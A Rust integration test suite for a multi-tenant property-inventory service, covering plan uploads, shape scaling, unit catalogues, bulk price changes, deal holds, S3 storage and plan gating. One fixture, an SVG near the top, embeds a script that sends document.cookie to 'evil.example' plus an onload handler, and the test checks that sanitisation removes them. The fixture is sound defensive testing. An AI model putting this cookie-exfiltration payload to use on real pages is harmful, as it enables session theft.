//! Inventory set-up and plans against a real PostgreSQL and file store: projects,
//! units and types made by editors, plan uploads (sniffed, sanitised, measured, served
//! to their tenant only), the scale line, shape deletion by version, the link picker,
//! and live map updates over the event stream.

use crate::board::wait_for_event;
use crate::common::*;
use crate::inventory::{deal, shop};
use app::inventory::api::{DeleteShape, GetPlan, HoldUnit, PlanUnits, SaveShape, SetPlanScale};
use app::inventory::catalog::{CreateUnit, DeleteUnitType, GetCatalog, SaveProject, SaveUnitType};
use reqwest::StatusCode;
use serde_json::{json, Value};
use std::time::Duration;

const SVG_WITH_SCRIPT: &str = r##"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1200 800" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect x="10" y="10" width="500" height="300" fill="#eee" stroke="#333"/>
  <image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>
  <text x="20" y="40">Floor 12</text>
</svg>"##;

/// A 3 × 2 PNG at 72 dpi, made by hand (no image crate needed to read its header).
pub(crate) fn tiny_png() -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut chunk = |kind: &[u8], data: &[u8]| {
        png.extend((data.len() as u32).to_be_bytes());
        png.extend(kind);
        png.extend(data);
        png.extend([0, 0, 0, 0]);
    };
    chunk(b"IHDR", &[0, 0, 0, 3, 0, 0, 0, 2, 8, 2, 0, 0, 0]);
    chunk(b"pHYs", &[0, 0, 0x0b, 0x13, 0, 0, 0x0b, 0x13, 1]);
    chunk(b"IEND", &[]);
    png
}

async fn upload(
    app: &TestApp,
    client: &reqwest::Client,
    project: &str,
    name: &str,
    body: Vec<u8>,
) -> (StatusCode, Value) {
    let query = [("project_id", project), ("name", name), ("kind", "FLOOR")];
    app.post_raw(client, "/inventory/plans/upload", &query, body)
        .await
}

async fn project(app: &TestApp, client: &reqwest::Client, name: &str) -> (StatusCode, Value) {
    app.call::<SaveProject>(
        client,
        &[
            ("input[name]", name),
            ("input[developer]", "Delta Developments"),
            ("input[location]", "New Cairo"),
            ("input[status]", "SELLING"),
            ("input[delivery_on]", "2027-06-30"),
            ("input[description]", ""),
        ],
    )
    .await
}

#[tokio::test]
async fn plans_are_sniffed_sanitised_measured_and_served_to_their_tenant_only() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let (status, id) = project(&app, &admin, "Nile Towers").await;
    assert_eq!(status, StatusCode::OK, "{id}");
    let project_id = id.as_str().unwrap().to_string();
    let (status, body) = project(&app, &admin, "Nile Towers").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(error_field(&body), Some("name"), "{body}");

    // An SVG with a script, a handler and an outside image: stored without them.
    let (status, made) = upload(
        &app,
        &admin,
        &project_id,
        "Floor 12",
        SVG_WITH_SCRIPT.into(),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    let plan = made["id"].as_str().unwrap().to_string();
    let (status, view) = app.call::<GetPlan>(&admin, &[("id", &plan)]).await;
    assert_eq!(status, StatusCode::OK, "{view}");
    assert_eq!(
        (view["width_px"].as_i64(), view["height_px"].as_i64()),
        (Some(1200), Some(800))
    );
    assert_eq!(view["can_edit"], true);
    let url = view["file_url"].as_str().unwrap().to_string();
    let res = app.get(&admin, &url).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["content-type"], "image/svg+xml");
    let policy = res.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        policy.contains("sandbox") && policy.contains("default-src 'none'"),
        "{policy}"
    );
    let stored = res.text().await.unwrap();
    for gone in ["script", "onload", "evil.example", "cookie"] {
        assert!(!stored.contains(gone), "{gone} survived: {stored}");
    }
    assert!(
        stored.contains("Floor 12") && stored.contains("<rect"),
        "{stored}"
    );

    // A PNG is measured from its header, with its resolution.
    let (status, made) = upload(&app, &admin, &project_id, "Site", tiny_png()).await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    let (dims, dpi): ((i32, i32), Option<i32>) = {
        let row: (i32, i32, Option<i32>) =
            sqlx::query_as("SELECT width_px, height_px, dpi FROM floor_plans WHERE name = 'Site'")
                .fetch_one(&app.pools.owner)
                .await
                .unwrap();
        ((row.0, row.1), row.2)
    };
    assert_eq!((dims, dpi), ((3, 2), Some(72)));

    // What is not a plan is refused by field, and nothing is recorded for it.
    let cases: Vec<(&str, &str, Vec<u8>, &str)> = vec![
        ("GIF", "A", b"GIF89a\x01\x00\x01\x00".to_vec(), "file"),
        (
            "HTML",
            "B",
            b"<html><script>x</script></html>".to_vec(),
            "file",
        ),
        ("empty", "C", Vec::new(), "file"),
        ("11 MB", "D", vec![b' '; 11 * 1024 * 1024], "file"),
        ("no name", "", tiny_png(), "name"),
        ("taken name", "Site", tiny_png(), "name"),
    ];
    for (what, name, body, field) in cases {
        let (status, body) = upload(&app, &admin, &project_id, name, body).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{what}: {body}");
        assert_eq!(error_field(&body), Some(field), "{what}: {body}");
    }
    let plans: i64 = sqlx::query_scalar("SELECT count(*) FROM floor_plans")
        .fetch_one(&app.pools.owner)
        .await
        .unwrap();
    assert_eq!(plans, 2);

    // A rep sees the drawing but may not upload; another workspace sees nothing,
    // and may not put a plan in this workspace's project.
    let rep = app
        .invite_and_join(&admin, "sam@example.com", "SALES")
        .await;
    assert_eq!(app.get(&rep, &url).await.status(), StatusCode::OK);
    let (status, _) = upload(&app, &rep, &project_id, "Rep's", tiny_png()).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let other = app.signup("Bea", "bea@example.com", "Beta").await;
    assert_eq!(app.get(&other, &url).await.status(), StatusCode::NOT_FOUND);
    let (status, body) = upload(&app, &other, &project_id, "Theirs", tiny_png()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(error_field(&body), Some("project_id"));
    let anonymous = app.client();
    assert!(!app.get(&anonymous, &url).await.status().is_success());
}

#[tokio::test]
async fn a_scale_line_measures_every_shape_and_shapes_are_deleted_by_version() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let shop = shop(&app, "ada@example.com").await;
    let plan = shop.plan.to_string();
    let (status, id) = app
        .call_json::<SaveShape>(
            &admin,
            &json!({ "plan_id": plan, "shape_id": null, "unit_id": shop.unit, "label": "B-1204",
                "points": [[100.0, 100.0], [200.0, 100.0], [200.0, 200.0], [100.0, 200.0]], "version": 0 }),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{id}");
    let scale = |line: Value, meters: &str| {
        let body = json!({ "plan_id": plan, "line": line, "meters": meters });
        let (app, admin) = (&app, admin.clone());
        async move { app.call_json::<SetPlanScale>(&admin, &body).await }
    };
    // 100 px drawn as 5 m: 5 cm a pixel, so the 100 px square is 25 m², 20 m around.
    let (status, mpp) = scale(json!([[0.0, 0.0], [100.0, 0.0]]), "5").await;
    assert_eq!(status, StatusCode::OK, "{mpp}");
    assert!((mpp.as_f64().unwrap() - 0.05).abs() < 1e-12);
    let (area, perimeter): (f64, f64) =
        sqlx::query_as("SELECT area_sqm, perimeter_m FROM map_shapes")
            .fetch_one(&app.pools.owner)
            .await
            .unwrap();
    assert!(
        (area - 25.0).abs() < 1e-9 && (perimeter - 20.0).abs() < 1e-9,
        "{area} {perimeter}"
    );
    let (status, body) = scale(json!([[0.0, 0.0], [2.0, 0.0]]), "5").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(error_field(&body), Some("line"));
    for meters in ["", "abc", "-3", "0", "1e9"] {
        let (status, body) = scale(json!([[0.0, 0.0], [100.0, 0.0]]), meters).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{meters}");
        assert_eq!(error_field(&body), Some("meters"), "{meters}: {body}");
    }
    let audited: i64 =
        sqlx::query_scalar("SELECT count(*) FROM audit_logs WHERE action = 'plan.scaled'")
            .fetch_one(&app.pools.owner)
            .await
            .unwrap();
    assert_eq!(audited, 1);

    // The link picker finds the project's units by code.
    let (status, found) = app
        .call::<PlanUnits>(&admin, &[("plan_id", &plan), ("q", "b-12")])
        .await;
    assert_eq!(status, StatusCode::OK, "{found}");
    assert_eq!(found[0]["code"], "B-1204");

    // Deleting with a stale version is refused; with the current one it goes.
    let shape = id.as_str().unwrap();
    let delete = |version: i32| {
        let body = json!({ "plan_id": plan, "shape_id": shape, "version": version });
        let (app, admin) = (&app, admin.clone());
        async move { app.call_json::<DeleteShape>(&admin, &body).await }
    };
    assert_eq!(delete(7).await.0, StatusCode::CONFLICT);
    assert_eq!(delete(1).await.0, StatusCode::OK);
    assert_eq!(delete(1).await.0, StatusCode::NOT_FOUND);

    // A rep can do none of this.
    let rep = app
        .invite_and_join(&admin, "sam@example.com", "SALES")
        .await;
    let (status, _) = app
        .call_json::<SetPlanScale>(
            &rep,
            &json!({ "plan_id": plan, "line": [[0.0, 0.0], [100.0, 0.0]], "meters": "5" }),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn editors_add_units_with_their_first_price_and_keep_their_own_types() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let (_, id) = project(&app, &admin, "Palm Hills").await;
    let project_id = id.as_str().unwrap().to_string();
    let unit = |overrides: &[(&str, &str)]| {
        let mut form: Vec<(String, String)> = [
            ("project_id", project_id.as_str()),
            ("code", "PH-101"),
            ("type_code", "APT_2BR"),
            ("building", "A"),
            ("floor", "1"),
            ("size_sqm", "118.5"),
            ("bedrooms", "2"),
            ("bathrooms", "2"),
            ("view", "Garden"),
            ("price", "4,350,000"),
            ("currency", "EGP"),
        ]
        .iter()
        .map(|(k, v)| (format!("input[{k}]"), v.to_string()))
        .collect();
        for (k, v) in overrides {
            if let Some(f) = form
                .iter_mut()
                .find(|(name, _)| *name == format!("input[{k}]"))
            {
                f.1 = v.to_string();
            }
        }
        let (app, admin) = (&app, admin.clone());
        async move {
            let pairs: Vec<(&str, &str)> =
                form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            app.call::<CreateUnit>(&admin, &pairs).await
        }
    };
    for (field, value) in [
        ("floor", "300"),
        ("size_sqm", "-4"),
        ("bedrooms", "two"),
        ("price", "lots"),
        ("currency", "pounds"),
        ("type_code", "NOPE"),
        ("code", ""),
    ] {
        let (status, body) = unit(&[(field, value)]).await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{field}={value}: {body}"
        );
        assert_eq!(error_field(&body), Some(field), "{field}={value}: {body}");
    }
    let (status, id) = unit(&[]).await;
    assert_eq!(status, StatusCode::OK, "{id}");
    let (price, size, reason): (i64, f64, String) = sqlx::query_as(
        "SELECT h.price_minor, u.size_sqm::float8, h.reason FROM units u JOIN unit_price_history h ON h.unit_id = u.id",
    )
    .fetch_one(&app.pools.owner)
    .await
    .unwrap();
    assert_eq!(
        (price, size, reason.as_str()),
        (435_000_000, 118.5, "First price")
    );
    let (status, body) = unit(&[]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(error_field(&body), Some("code"), "{body}");

    // The workspace's own type: saved, used by a unit, kept while in use.
    let (status, body) = app
        .call::<SaveUnitType>(&admin, &[("code", "x"), ("label", "Bad"), ("kind", "UNIT")])
        .await;
    assert_eq!(
        (status, error_field(&body)),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("code"))
    );
    let (status, _) = app
        .call::<SaveUnitType>(
            &admin,
            &[
                ("code", "penthouse_3br"),
                ("label", "Penthouse, 3 bedrooms"),
                ("kind", "UNIT"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let (status, id) = unit(&[("code", "PH-PENT"), ("type_code", "PENTHOUSE_3BR")]).await;
    assert_eq!(status, StatusCode::OK, "{id}");
    let (status, body) = app
        .call::<DeleteUnitType>(&admin, &[("code", "PENTHOUSE_3BR")])
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    let (status, _) = app
        .call::<DeleteUnitType>(&admin, &[("code", "APT_2BR")])
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (_, catalog) = app.call::<GetCatalog>(&admin, &[]).await;
    let own: Vec<&Value> = catalog["types"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["global"] == false)
        .collect();
    assert_eq!(own.len(), 1, "{catalog}");
    assert_eq!(catalog["projects"][0]["units"], 2);
    assert_eq!(catalog["projects"][0]["developer"], "Delta Developments");
    assert_eq!(
        (
            catalog["hold_hours"].as_i64(),
            catalog["hold_reminder_hours"].as_i64()
        ),
        (Some(48), Some(6))
    );

    // The hold rules: a day, reminded two hours before; out of range by field.
    use app::inventory::catalog::SaveHoldPolicy;
    for (hours, reminder, field) in [
        ("0", "2", "hours"),
        ("24", "200", "reminder_hours"),
        ("x", "2", "hours"),
    ] {
        let (status, body) = app
            .call::<SaveHoldPolicy>(&admin, &[("hours", hours), ("reminder_hours", reminder)])
            .await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{hours}/{reminder}: {body}"
        );
        assert_eq!(error_field(&body), Some(field));
    }
    let (status, _) = app
        .call::<SaveHoldPolicy>(&admin, &[("hours", "24"), ("reminder_hours", "2")])
        .await;
    assert_eq!(status, StatusCode::OK);
    let (_, catalog) = app.call::<GetCatalog>(&admin, &[]).await;
    assert_eq!(
        (
            catalog["hold_hours"].as_i64(),
            catalog["hold_reminder_hours"].as_i64()
        ),
        (Some(24), Some(2))
    );

    // A rep reads the catalogue but changes nothing; another workspace sees none of it.
    let rep = app
        .invite_and_join(&admin, "sam@example.com", "SALES")
        .await;
    let (status, _) = app
        .call::<CreateUnit>(
            &rep,
            &[("input[project_id]", &project_id), ("input[code]", "R-1")],
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = app
        .call::<SaveUnitType>(
            &rep,
            &[("code", "ROOF"), ("label", "Roof"), ("kind", "COMPONENT")],
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (_, catalog) = app.call::<GetCatalog>(&rep, &[]).await;
    assert_eq!(catalog["can_edit"], false);
    let other = app.signup("Bea", "bea@example.com", "Beta").await;
    let (_, theirs) = app.call::<GetCatalog>(&other, &[]).await;
    assert_eq!(theirs["projects"], json!([]));
    assert!(theirs["types"]
        .as_array()
        .unwrap()
        .iter()
        .all(|t| t["global"] == true));
}

#[tokio::test]
async fn open_maps_hear_of_unit_changes_in_their_tenant_only() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let other = app.signup("Bea", "bea@example.com", "Beta").await;
    let shop = shop(&app, "ada@example.com").await;
    let deal = deal(&app, shop.tenant, "ada@example.com", "Show flat").await;
    let mut ada_stream = app.get(&admin, "/events").await;
    let mut bea_stream = app.get(&other, "/events").await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let (status, _) = app
        .call::<HoldUnit>(
            &admin,
            &[
                ("unit_id", &shop.unit.to_string()),
                ("deal_id", &deal.to_string()),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        wait_for_event(&mut ada_stream, "event: unit").await,
        "Ada's map heard nothing"
    );
    // A deal's outcome moves the unit by trigger, and that is heard too.
    sqlx::query("UPDATE deals SET status = 'WON' WHERE id = $1")
        .bind(deal)
        .execute(&app.pools.owner)
        .await
        .unwrap();
    assert!(
        wait_for_event(&mut ada_stream, "event: unit").await,
        "the sale was not heard"
    );
    assert!(
        !wait_for_event(&mut bea_stream, "event: unit").await,
        "another tenant heard it"
    );
}

#[tokio::test]
async fn a_bulk_price_change_is_previewed_then_applied_once_with_its_history() {
    use app::inventory::api::SetUnitPrice;
    use app::inventory::bulk::{ApplyBulk, PreviewBulk};
    let app = TestApp::spawn().await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let shop = shop(&app, "ada@example.com").await;
    // Floors 9, 10 and 11 beside the shop's B-1204 on 12; 11 is sold.
    sqlx::query(
        "INSERT INTO units (tenant_id, id, project_id, code, type_code, floor, bedrooms, price_minor, currency, status)
         SELECT $1, gen_random_uuid(), p.id, 'B-' || f || '01', 'APT_2BR', f, 2, 100000000, 'EGP',
                CASE WHEN f = 11 THEN 'SOLD' ELSE 'AVAILABLE' END
           FROM projects p, generate_series(9, 11) f WHERE p.tenant_id = $1",
    )
    .bind(shop.tenant)
    .execute(&app.pools.owner)
    .await
    .unwrap();
    let project: uuid::Uuid = sqlx::query_scalar("SELECT id FROM projects WHERE tenant_id = $1")
        .bind(shop.tenant)
        .fetch_one(&app.pools.owner)
        .await
        .unwrap();
    let body = |percent: &str, min_floor: Value, max_floor: Value| {
        json!({
            "selection": { "project_id": project, "min_floor": min_floor, "max_floor": max_floor,
                           "type_code": null, "status": null },
            "change": { "percent": percent, "status": null, "reason": "Phase 2 pricing" },
        })
    };
    // +3 % from floor 10 up: three units selected, the sold one keeps its price.
    let (status, preview) = app
        .call_json::<PreviewBulk>(&admin, &body("3", json!(10), Value::Null))
        .await;
    assert_eq!(status, StatusCode::OK, "{preview}");
    assert_eq!(
        (preview["selected"].as_i64(), preview["changing"].as_i64()),
        (Some(3), Some(2))
    );
    let after: Vec<i64> = preview["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["price_after"].as_i64().unwrap())
        .collect();
    assert_eq!(after, [103_000_000, 448_050_000]);
    let nothing_yet: i64 = sqlx::query_scalar("SELECT count(*) FROM unit_price_history")
        .fetch_one(&app.pools.owner)
        .await
        .unwrap();
    assert_eq!(nothing_yet, 0, "a preview writes nothing");

    let mut apply = body("3", json!(10), Value::Null);
    apply["token"] = preview["token"].clone();
    let (status, applied) = app.call_json::<ApplyBulk>(&admin, &apply).await;
    assert_eq!(status, StatusCode::OK, "{applied}");
    let prices: Vec<(String, i64)> =
        sqlx::query_as("SELECT code, price_minor FROM units ORDER BY code")
            .fetch_all(&app.pools.owner)
            .await
            .unwrap();
    assert_eq!(
        prices,
        [
            ("B-1001".to_string(), 103_000_000),
            ("B-1101".to_string(), 100_000_000),
            ("B-1204".to_string(), 448_050_000),
            ("B-901".to_string(), 100_000_000),
        ]
    );
    let history: Vec<(i64, Option<String>)> =
        sqlx::query_as("SELECT price_minor, reason FROM unit_price_history ORDER BY price_minor")
            .fetch_all(&app.pools.owner)
            .await
            .unwrap();
    assert_eq!(
        history,
        [
            (103_000_000, Some("Phase 2 pricing".into())),
            (448_050_000, Some("Phase 2 pricing".into()))
        ]
    );
    let audited: i64 =
        sqlx::query_scalar("SELECT count(*) FROM audit_logs WHERE action = 'units.bulk_changed'")
            .fetch_one(&app.pools.owner)
            .await
            .unwrap();
    assert_eq!(audited, 1);
    // The same preview applied twice (a double click) changes nothing more.
    let (status, _) = app.call_json::<ApplyBulk>(&admin, &apply).await;
    assert_eq!(status, StatusCode::CONFLICT);

    // A price changed between preview and apply: refused, with the fresh count.
    let (_, preview) = app
        .call_json::<PreviewBulk>(&admin, &body("-2.5", Value::Null, json!(10)))
        .await;
    let b901 = prices[3].0.clone();
    let b901_id: uuid::Uuid = sqlx::query_scalar("SELECT id FROM units WHERE code = $1")
        .bind(&b901)
        .fetch_one(&app.pools.owner)
        .await
        .unwrap();
    app.call::<SetUnitPrice>(
        &admin,
        &[
            ("unit_id", &b901_id.to_string()),
            ("price", "1,200,000"),
            ("reason", ""),
        ],
    )
    .await;
    let mut stale = body("-2.5", Value::Null, json!(10));
    stale["token"] = preview["token"].clone();
    let (status, body_text) = app.call_json::<ApplyBulk>(&admin, &stale).await;
    assert_eq!(status, StatusCode::CONFLICT, "{body_text}");
    assert!(
        body_text.to_string().contains("Preview again"),
        "{body_text}"
    );

    // Bad requests are refused by field; reps may not; another tenant selects nothing.
    for (what, change, field) in [
        (
            "percent",
            json!({ "percent": "abc", "status": null, "reason": "" }),
            "percent",
        ),
        (
            "nothing",
            json!({ "percent": "", "status": null, "reason": "" }),
            "percent",
        ),
        (
            "sold",
            json!({ "percent": "", "status": "Sold", "reason": "" }),
            "new_status",
        ),
    ] {
        let b = json!({ "selection": { "project_id": project }, "change": change });
        let (status, refused) = app.call_json::<PreviewBulk>(&admin, &b).await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{what}: {refused}"
        );
        assert_eq!(error_field(&refused), Some(field), "{what}: {refused}");
    }
    let (status, refused) = app
        .call_json::<PreviewBulk>(&admin, &body("3", json!(12), json!(10)))
        .await;
    assert_eq!(
        (status, error_field(&refused)),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("max_floor"))
    );
    let rep = app
        .invite_and_join(&admin, "sam@example.com", "SALES")
        .await;
    let (status, _) = app
        .call_json::<PreviewBulk>(&rep, &body("3", Value::Null, Value::Null))
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let other = app.signup("Bea", "bea@example.com", "Beta").await;
    let (status, theirs) = app
        .call_json::<PreviewBulk>(&other, &body("3", Value::Null, Value::Null))
        .await;
    assert_eq!(status, StatusCode::OK, "{theirs}");
    assert_eq!(theirs["selected"], 0);
}

#[tokio::test]
async fn a_deal_lists_its_units_holds_more_and_takes_its_amount_from_them() {
    use app::inventory::deal::{FillDealAmount, FindAvailableUnits, GetDealUnits};
    let app = TestApp::spawn().await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let shop = shop(&app, "ada@example.com").await;
    sqlx::query(
        "INSERT INTO units (tenant_id, id, project_id, code, type_code, bedrooms, price_minor, currency)
         SELECT $1, gen_random_uuid(), id, 'P-1', 'APT_1BR', 1, 15000000, 'EGP' FROM projects WHERE tenant_id = $1",
    )
    .bind(shop.tenant)
    .execute(&app.pools.owner)
    .await
    .unwrap();
    let deal = deal(&app, shop.tenant, "ada@example.com", "Family purchase").await;
    let deal_id = deal.to_string();
    let (status, _) = app
        .call::<HoldUnit>(
            &admin,
            &[("unit_id", &shop.unit.to_string()), ("deal_id", &deal_id)],
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let (status, units) = app
        .call::<GetDealUnits>(&admin, &[("deal_id", &deal_id)])
        .await;
    assert_eq!(status, StatusCode::OK, "{units}");
    assert_eq!(units["units"].as_array().unwrap().len(), 1);
    assert_eq!(units["can_change"], true);
    // The parking space is found by code and held from the deal too.
    let (_, found) = app.call::<FindAvailableUnits>(&admin, &[("q", "p-")]).await;
    assert_eq!(found.as_array().unwrap().len(), 1, "{found}");
    let parking = found[0]["id"].as_str().unwrap().to_string();
    app.call::<HoldUnit>(&admin, &[("unit_id", &parking), ("deal_id", &deal_id)])
        .await;
    let (_, units) = app
        .call::<GetDealUnits>(&admin, &[("deal_id", &deal_id)])
        .await;
    assert_eq!(units["total"], json!([450_000_000, "EGP"]));
    let (status, filled) = app
        .call::<FillDealAmount>(&admin, &[("deal_id", &deal_id)])
        .await;
    assert_eq!(status, StatusCode::OK, "{filled}");
    let (amount, currency, version): (i64, String, i32) =
        sqlx::query_as("SELECT amount_minor, currency::text, version FROM deals WHERE id = $1")
            .bind(deal)
            .fetch_one(&app.pools.owner)
            .await
            .unwrap();
    assert_eq!(
        (amount, currency.as_str(), version),
        (450_000_000, "EGP", 2)
    );

    // Another member's rep does not see the deal; once it is won, its units are sold,
    // still listed, and the amount is settled.
    let rep = app
        .invite_and_join(&admin, "sam@example.com", "SALES")
        .await;
    let (status, _) = app
        .call::<GetDealUnits>(&rep, &[("deal_id", &deal_id)])
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    sqlx::query("UPDATE deals SET status = 'WON' WHERE id = $1")
        .bind(deal)
        .execute(&app.pools.owner)
        .await
        .unwrap();
    let (_, units) = app
        .call::<GetDealUnits>(&admin, &[("deal_id", &deal_id)])
        .await;
    let statuses: Vec<&str> = units["units"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["unit"]["status"].as_str().unwrap())
        .collect();
    assert_eq!(statuses, ["Sold", "Sold"], "{units}");
    assert_eq!(units["can_change"], false);
    let (status, _) = app
        .call::<FillDealAmount>(&admin, &[("deal_id", &deal_id)])
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let other = app.signup("Bea", "bea@example.com", "Beta").await;
    let (status, _) = app
        .call::<GetDealUnits>(&other, &[("deal_id", &deal_id)])
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn plans_go_to_s3_compatible_storage_when_so_configured() {
    let (app, peer) = TestApp::spawn_with_peer_and(|config, peer| {
        config.files =
            app::files::FileStore::s3_at("plans", &peer.s3_endpoint(), "AKIDLEADLINE", "secret")
                .unwrap();
    })
    .await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let (_, id) = project(&app, &admin, "Nile Towers").await;
    let (status, made) = upload(&app, &admin, id.as_str().unwrap(), "Floor 12", tiny_png()).await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    let (_, view) = app
        .call::<GetPlan>(&admin, &[("id", made["id"].as_str().unwrap())])
        .await;
    let res = app.get(&admin, view["file_url"].as_str().unwrap()).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["content-type"], "image/png");
    assert_eq!(res.bytes().await.unwrap().to_vec(), tiny_png());
    // Written and read through the S3 protocol, each request signed.
    let auth = peer.s3_auth();
    assert!(auth.len() >= 2, "{auth:?}");
    assert!(auth.iter().all(|a| a == "AWS4-HMAC-SHA256"), "{auth:?}");
    // A key nobody stored reads as missing, not as an error.
    let store =
        app::files::FileStore::s3_at("plans", &peer.s3_endpoint(), "AKIDLEADLINE", "secret")
            .unwrap();
    assert_eq!(
        store.get("tenants/none/plans/none/1.png").await.unwrap(),
        None
    );
}

#[tokio::test]
async fn floor_plan_maps_are_a_plan_feature_free_does_not_have() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let tenant = app.tenant_of("ada@example.com").await;
    let (_, id) = project(&app, &admin, "Nile Towers").await;
    let project_id = id.as_str().unwrap().to_string();
    let (status, made) = upload(&app, &admin, &project_id, "Site", tiny_png()).await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    let plan = made["id"].as_str().unwrap().to_string();

    sqlx::query(
        "UPDATE subscriptions SET plan_id = 'free', status = 'ACTIVE' WHERE tenant_id = $1",
    )
    .bind(tenant)
    .execute(&app.pools.owner)
    .await
    .unwrap();
    // The map, a new plan and drawing are refused with the plan named and the way out;
    // the plan and its units stay.
    let (status, body) = app.call::<GetPlan>(&admin, &[("id", &plan)]).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert!(
        body.to_string()
            .contains("Your Free plan does not include Floor-plan maps")
            && body.to_string().contains("/billing"),
        "{body}"
    );
    let (status, _) = upload(&app, &admin, &project_id, "Another", tiny_png()).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = app
        .call_json::<SaveShape>(
            &admin,
            &json!({ "plan_id": plan, "shape_id": null, "unit_id": null, "component_id": null,
                     "label": "A", "points": [[0.0, 0.0], [1.0, 0.0], [1.0, 1.0]], "version": 0 }),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = app
        .call::<app::billing::api::FeatureRefusal>(&admin, &[("feature", "inventory.maps")])
        .await;
    assert_eq!(status, StatusCode::OK);

    sqlx::query("UPDATE subscriptions SET plan_id = 'starter' WHERE tenant_id = $1")
        .bind(tenant)
        .execute(&app.pools.owner)
        .await
        .unwrap();
    let (status, view) = app.call::<GetPlan>(&admin, &[("id", &plan)]).await;
    assert_eq!(status, StatusCode::OK, "{view}");
}
